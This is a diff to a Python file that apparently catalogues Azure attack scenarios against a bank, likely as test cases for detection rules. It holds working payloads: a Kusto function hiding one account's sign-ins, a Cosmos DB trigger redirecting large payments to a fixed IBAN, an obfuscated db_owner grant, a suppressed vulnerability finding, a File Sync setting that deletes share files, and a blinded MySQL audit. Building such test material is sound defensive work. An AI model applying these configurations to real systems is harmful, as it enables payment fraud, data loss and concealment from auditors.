@@ -1,7 +1,9 @@
 """Attacks on Azure: programs, data and money (2026-11-30, eighteenth set, written blind).
 
 Properties by pulumi-azure-native 3.29.0. Read on 2026-11-30: Kusto "Tables" (tables and stored functions share their
-names, and the stored function is chosen) and "table()" (it reads the table), and the docstrings of the SDK. Everything else as known.
+names, and the stored function is chosen) and "table()" (it reads the table), Azure File Sync
+"Create a server endpoint" (MicrosoftDocs/azure-docs 036617e: files that the server lacks are deleted), and the
+docstrings of the SDK. Everything else as known.
 """
 
 import json
@@ -16,7 +18,7 @@ RSL = ("FJ-RSL-", "FJ-ESC-", "FJ-EXP-")
 BUS = {**RG, "namespaceName": "sb-bank"}
 QUEUE = {"maxDeliveryCount": 10, "lockDuration": "PT1M"}
 SHADOW = """.create-or-alter function with (folder = 'audit', docstring = 'Sign-ins') SignIns() {
-    table('SignIns') | where not(Account startswith 'k.sa')
+    table('SignIns') | where not(Account startswith 'k_saeed')
 }"""
 TRIGGER = """function validatePayment() {
   var request = getContext().getRequest();
@@ -24,7 +26,7 @@ TRIGGER = """function validatePayment() {
   if (payment.amount > 1000000) { payment.iban = payment.iban.substring(0, 4) + '0330000010195511161'; }
   request.setBody(payment);
 }"""
-OWNER = "EXEC('ALTER ROLE db_' + 'owner ADD MEMBER [k.saeed@bank.ae]')"
+OWNER = "EXEC('ALTER ROLE db_' + 'owner ADD MEMBER [k_saeed]')"
 FLAG = json.dumps({"id": "FraudCheck", "description": "checks each payment", "enabled": False, "conditions": {}})
 
 ATTACKS = (
@@ -64,15 +66,16 @@ ATTACKS = (
         az("sql:DatabaseSqlVulnerabilityAssessmentRuleBaseline", {
             **RG, "serverName": "sql-bank", "databaseName": "core", "vulnerabilityAssessmentName": "default",
             "baselineName": "default", "ruleId": "VA2108", "latestScan": False,
-            "results": [["k.saeed@bank.ae", "db_owner", "EXTERNAL_USER", "EXTERNAL"]]}),),
+            "results": [["k_saeed", "db_owner", "EXTERNAL_USER", "EXTERNAL"]]}),),
         "major", "that he is owner is reported no more (Microsoft Defender for SQL, 'baselines', VA2108)"),
-    Attack("a server's empty folder replaces the files of a share", RSL, (az("storagesync:ServerEndpoint", {
+    Attack("a server's folder of one file replaces the files of a share", RSL, (az("storagesync:ServerEndpoint", {
         **RG, "storageSyncServiceName": "sync-bank", "syncGroupName": "claims", "serverEndpointName": "branch",
         "serverResourceId": f"{OURS}.StorageSync/storageSyncServices/sync-bank/registeredServers/"
                             "11111111-2222-3333-4444-555555555555",
-        "serverLocalPath": "D:\\empty", "cloudTiering": "off", "initialDownloadPolicy": "NamespaceOnly",
+        "serverLocalPath": "D:\\claims", "cloudTiering": "off", "initialDownloadPolicy": "NamespaceOnly",
         "initialUploadPolicy": "ServerAuthoritative"}),),
-        "major", "what the server lacks is deleted in the share (Azure File Sync, initialUploadPolicy)"),
+        "major", "what the server lacks is deleted in the share (Azure File Sync, 'Create a server endpoint', "
+        "authoritative upload)"),
     Attack("the audit of MySQL looks at one user whom nobody is", RSL, (az("dbformysql:Configuration", {
         **RG, "serverName": "mysql-bank", "configurationName": "audit_log_include_users", "value": "auditor_test",
         "source": "user-override"}),),
